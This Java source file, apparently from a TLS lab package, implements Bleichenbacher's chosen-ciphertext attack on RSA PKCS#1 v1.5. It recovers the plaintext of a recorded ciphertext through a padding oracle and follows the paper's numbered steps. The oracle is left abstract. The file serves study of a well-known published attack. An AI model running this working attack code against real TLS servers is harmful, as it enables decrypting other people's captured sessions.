package org.layeredtls.handshake.lab;

import java.io.IOException;
import java.io.PrintStream;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;

import org.layeredtls.crypto.RsaPublicKey;

/**
 * Bleichenbacher's attack on RSAES-PKCS1-v1_5 (CRYPTO '98, "Chosen ciphertext attacks against
 * protocols based on the RSA encryption standard PKCS #1"): with an oracle that says whether any
 * ciphertext decrypts to a block starting {@code 00 02}, recover the plaintext m of a ciphertext c,
 * without the private key. Each conforming {@code c·s^e} says {@code 2B <= m·s mod n < 3B}
 * ({@code B = 2^(8(k-2))}); the steps below (numbered as in the paper) narrow the interval that holds m
 * until one value is left. A PKCS conforming c is assumed (a recorded ClientKeyExchange is), so
 * s0 = 1 and step 1 (blinding) is skipped.
 */
final class Bleichenbacher {

    /** Whether the block {@code c^d mod n} starts with {@code 00 02}, asked of a server somehow. */
    @FunctionalInterface
    interface Oracle {
        boolean conforming(BigInteger ciphertext) throws IOException;
    }

    /** The attack ran out of its query budget. */
    static final class BudgetExhausted extends IOException {
        BudgetExhausted(int queries) {
            super("no result after " + queries + " oracle queries");
        }
    }

    /** {@code [a, b]}: the values m may still have. */
    record Interval(BigInteger a, BigInteger b) {
        BigInteger width() {
            return b.subtract(a).add(BigInteger.ONE);
        }
    }

    private static final BigInteger TWO = BigInteger.TWO;
    private static final BigInteger THREE = BigInteger.valueOf(3);

    private final BigInteger n;
    private final BigInteger e;
    private final BigInteger twoB;
    private final BigInteger threeB;
    private final Oracle oracle;
    private final int budget;
    private final PrintStream out;
    private BigInteger c0;
    private int queries;
    private int reportedBits = Integer.MAX_VALUE;

    Bleichenbacher(RsaPublicKey key, Oracle oracle, int budget, PrintStream out) {
        this.n = key.modulus();
        this.e = key.publicExponent();
        BigInteger b = BigInteger.ONE.shiftLeft(8 * (key.modulusLength() - 2));
        this.twoB = b.multiply(TWO);
        this.threeB = b.multiply(THREE);
        this.oracle = oracle;
        this.budget = budget;
        this.out = out;
    }

    /** How many times the oracle was asked. */
    int queries() {
        return queries;
    }

    /** The plaintext block of the PKCS conforming ciphertext {@code c}. */
    BigInteger recover(BigInteger c) throws IOException {
        this.c0 = c;
        List<Interval> m = List.of(new Interval(twoB, threeB.subtract(BigInteger.ONE)));
        // Step 2a: the smallest s >= n/(3B) that makes c·s^e conforming.
        BigInteger s = ceilDiv(n, threeB);
        while (!conforming(s)) {
            s = s.add(BigInteger.ONE);
        }
        out.printf("   step 2a: s1 = %s conforming after %d queries%n", s, queries);
        while (true) {
            m = narrow(m, s); // step 3
            report(m);
            if (m.size() == 1 && m.get(0).a().equals(m.get(0).b())) { // step 4
                return m.get(0).a();
            }
            s = m.size() > 1 ? searchFrom(s.add(BigInteger.ONE)) : searchOneInterval(m.get(0), s);
        }
    }

    /** Step 2b: the next conforming s, one by one (several intervals left). */
    private BigInteger searchFrom(BigInteger s) throws IOException {
        while (!conforming(s)) {
            s = s.add(BigInteger.ONE);
        }
        return s;
    }

    /** Step 2c: one interval [a, b] left: try s in ((2B + r·n)/b, (3B + r·n)/a) for r from 2(b·s - 2B)/n up. */
    private BigInteger searchOneInterval(Interval interval, BigInteger previous) throws IOException {
        BigInteger a = interval.a();
        BigInteger b = interval.b();
        for (BigInteger r = ceilDiv(TWO.multiply(b.multiply(previous).subtract(twoB)), n); ; r = r.add(BigInteger.ONE)) {
            BigInteger rn = r.multiply(n);
            BigInteger last = threeB.add(rn).subtract(BigInteger.ONE).divide(a);
            for (BigInteger s = ceilDiv(twoB.add(rn), b); s.compareTo(last) <= 0; s = s.add(BigInteger.ONE)) {
                if (conforming(s)) {
                    return s;
                }
            }
        }
    }

    /** Step 3: keep of each interval the values m with {@code 2B <= m·s - r·n <= 3B - 1} for some r. */
    private List<Interval> narrow(List<Interval> intervals, BigInteger s) {
        List<Interval> next = new ArrayList<>();
        for (Interval interval : intervals) {
            BigInteger rFirst = ceilDiv(interval.a().multiply(s).subtract(threeB).add(BigInteger.ONE), n);
            BigInteger rLast = interval.b().multiply(s).subtract(twoB).divide(n);
            for (BigInteger r = rFirst; r.compareTo(rLast) <= 0; r = r.add(BigInteger.ONE)) {
                BigInteger rn = r.multiply(n);
                BigInteger a = interval.a().max(ceilDiv(twoB.add(rn), s));
                BigInteger b = interval.b().min(threeB.subtract(BigInteger.ONE).add(rn).divide(s));
                if (a.compareTo(b) <= 0) {
                    next.add(new Interval(a, b));
                }
            }
        }
        return merged(next);
    }

    private static List<Interval> merged(List<Interval> intervals) {
        List<Interval> sorted = new ArrayList<>(intervals);
        sorted.sort(Comparator.comparing(Interval::a));
        List<Interval> merged = new ArrayList<>();
        for (Interval i : sorted) {
            Interval last = merged.isEmpty() ? null : merged.get(merged.size() - 1);
            if (last != null && i.a().compareTo(last.b().add(BigInteger.ONE)) <= 0) {
                merged.set(merged.size() - 1, new Interval(last.a(), last.b().max(i.b())));
            } else {
                merged.add(i);
            }
        }
        if (merged.isEmpty()) {
            throw new IllegalStateException("no interval left: the oracle's answers contradict each other");
        }
        return merged;
    }

    /** One line each time the interval loses another 64 bits of width. */
    private void report(List<Interval> m) {
        int bits = m.stream().mapToInt(i -> i.width().bitLength()).max().orElse(0);
        if (bits <= reportedBits - 64 || bits <= 1 && reportedBits > 1) {
            reportedBits = bits;
            out.printf("   after %5d queries: m is in %d interval(s) %d bits wide%n", queries, m.size(), bits);
        }
    }

    private boolean conforming(BigInteger s) throws IOException {
        if (queries >= budget) {
            throw new BudgetExhausted(queries);
        }
        queries++;
        return oracle.conforming(c0.multiply(s.modPow(e, n)).mod(n));
    }

    private static BigInteger ceilDiv(BigInteger x, BigInteger y) {
        BigInteger[] qr = x.divideAndRemainder(y);
        return qr[1].signum() > 0 ? qr[0].add(BigInteger.ONE) : qr[0];
    }
}
